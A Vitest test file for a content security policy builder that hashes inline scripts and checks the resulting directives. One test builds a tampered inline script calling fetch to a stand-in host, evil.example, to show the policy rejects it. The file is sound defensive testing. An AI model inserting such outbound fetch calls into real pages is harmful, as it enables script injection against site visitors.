import { describe, expect, it } from 'vitest';
import { inlineScripts, pagePolicy, scriptHash } from './csp-policy';

const page = `<html><head><script src="/_next/static/a.js" async></script>
<script type="application/ld+json">{"@type":"Organization"}</script></head>
<body><script>self.__next_f=self.__next_f||[]</script><script id="_R_">globalThis.x=1</script></body></html>`;

describe('content security policy', () => {
  it('hashes exactly the executable inline scripts', () => {
    expect(inlineScripts(page)).toEqual(['self.__next_f=self.__next_f||[]', 'globalThis.x=1']);
  });

  it('allows the built scripts and blocks a tampered one', () => {
    const allowed = inlineScripts(page).map(scriptHash);
    const policy = pagePolicy({ scriptSources: allowed });
    const tampered = inlineScripts(page.replace('globalThis.x=1', 'globalThis.x=1;fetch("//evil.example")'));
    const scriptSrc = policy.split('; ').find((directive) => directive.startsWith('script-src '))!;
    expect(tampered.map(scriptHash).filter((hash) => !scriptSrc.includes(hash))).toEqual([
      scriptHash('globalThis.x=1;fetch("//evil.example")'),
    ]);
    expect(scriptSrc).not.toContain('unsafe-inline');
    expect(scriptSrc).not.toContain('unsafe-eval');
  });

  it('matches the hash the browser computes (sha256 of the UTF-8 text, base64)', () => {
    // echo -n 'alert(1)' | openssl dgst -sha256 -binary | base64
    expect(scriptHash('alert(1)')).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
  });

  it('forbids plugins, base tags, framing and foreign form targets', () => {
    const policy = pagePolicy({ scriptSources: [] });
    for (const directive of [
      "object-src 'none'",
      "base-uri 'none'",
      "form-action 'self'",
      "frame-ancestors 'none'",
      "default-src 'self'",
    ]) {
      expect(policy).toContain(directive);
    }
  });
});
